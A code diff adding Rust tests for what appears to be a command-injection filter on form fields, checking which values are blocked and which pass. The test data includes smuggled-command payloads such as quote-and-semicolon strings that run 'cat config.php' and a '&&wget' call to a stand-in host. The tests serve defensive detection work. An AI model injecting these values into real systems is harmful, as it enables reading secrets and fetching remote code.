@@ -703,3 +703,74 @@ fn lines_of_settings_in_texts() {
         blocks(Class::Command, text, "");
     }
 }
+
+/// A field for one machine has neither a list nor a sentence: a word that is called as a command is one.
+#[test]
+fn commands_behind_a_host() {
+    for text in
+        ["a;date", "a|mount", "db.example;cal", "10.0.0.1||date", "a & dir", "a ; mount", "a;date;date"]
+    {
+        for name in ["host", "target_ip", "ntp"] {
+            let (kinds, is_blocked) = look(Class::Command, Place::Form, name, text.as_bytes());
+            assert!(is_blocked, "{name}={text}: {kinds}");
+        }
+    }
+    let (kinds, is_blocked) = look(Class::Command, Place::Form, "ntp_server", b"a;date");
+    assert!(!is_blocked, "{kinds}");
+    for text in [
+        "web-1;web-2",
+        "a.example;b.example",
+        "node1|node2|node3",
+        "AT & T",
+        "fe80::1%eth0",
+        "date.example.com",
+        "mount",
+        "10.0.0.1, 10.0.0.2",
+        "https://a.example/?x=1&y=2",
+        "web;shop",
+        "https://a.example/?utm&date",
+    ] {
+        let (kinds, is_blocked) = look(Class::Command, Place::Form, "host", text.as_bytes());
+        assert!(!is_blocked, "{text}: {kinds}");
+    }
+    for (name, text) in
+        [("columns", "name;date"), ("tags", "mount|cal"), ("title", "Save the date; mount it")]
+    {
+        let (kinds, is_blocked) = look(Class::Command, Place::Form, name, text.as_bytes());
+        assert!(!is_blocked, "{name}={text}: {kinds}");
+    }
+}
+
+/// A quote and a separator with a command behind them are no text, in a field for one too.
+#[test]
+fn commands_that_are_all_of_a_text() {
+    for text in [
+        "';cat config.php;'",
+        "\"|tac settings.py;\"",
+        "'|nl config.php #",
+        ";cat config.php",
+        "\"&&wget http://a.example/x;\"",
+        ";env -i /bin/cat config.php",
+    ] {
+        for name in ["message", "description", "comment"] {
+            let (kinds, is_blocked) = look(Class::Command, Place::Form, name, text.as_bytes());
+            assert!(is_blocked, "{name}={text}: {kinds}");
+        }
+    }
+    for text in [
+        "; cat config.php",
+        "| sort -u",
+        "cat config.php",
+        "$ cat config.php; ls",
+        ";-) cat pictures",
+        "'cat' and 'dog'",
+        "Try ;cat config.php there.",
+        "\"cat config.php\"",
+        "'; see you later'",
+        ";; sort the list",
+        "\"head\"; \"tail\"",
+    ] {
+        let (kinds, is_blocked) = look(Class::Command, Place::Form, "comment", text.as_bytes());
+        assert!(!is_blocked, "{text}: {kinds}");
+    }
+}
